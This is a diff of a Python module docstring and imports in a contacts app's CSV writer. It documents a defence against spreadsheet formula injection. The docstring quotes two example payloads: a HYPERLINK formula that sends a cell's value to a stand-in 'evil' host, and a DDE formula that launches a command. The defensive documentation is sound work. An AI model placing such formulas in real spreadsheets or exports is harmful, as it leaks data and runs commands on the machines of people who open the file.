@@ -4,9 +4,11 @@ Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, `
 ``@``, a tab or a carriage return as a formula, so a contact named
 ``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``=cmd|' /C calc'!A0`` would act when the
 export is opened. Every CSV the app writes goes through :func:`csv_writer`, which
-writes each text cell through :func:`~.contact_csv.neutralise_cell` (OWASP's advice:
+writes each text cell through :func:`~segment_tui.services.contacts.csv_reading.neutralise_cell`
+(OWASP's advice:
 prefix a ``'``); ``contacts import`` reads it back through
-:func:`~.contact_csv.restore_cell`, so an export imports back to the same values and
+:func:`~segment_tui.services.contacts.csv_reading.restore_cell`, so an export imports back to the
+same values and
 exports again byte for byte (docs/security.md, "CSV files").
 
 Numbers written as numbers (int, Decimal) are left alone: ``-5.00`` is no formula.
@@ -19,7 +21,7 @@ from collections.abc import Iterable, Sequence
 from decimal import Decimal
 from typing import IO, Any
 
-from segment_tui.services.contact_csv import FORMULA_TRIGGERS, neutralise_cell
+from segment_tui.services.contacts.csv_reading import FORMULA_TRIGGERS, neutralise_cell
 
 _CHECK_FIRST = frozenset(FORMULA_TRIGGERS + "'")
 """First characters of a text cell that need :func:`neutralise_cell` (most need not)."""
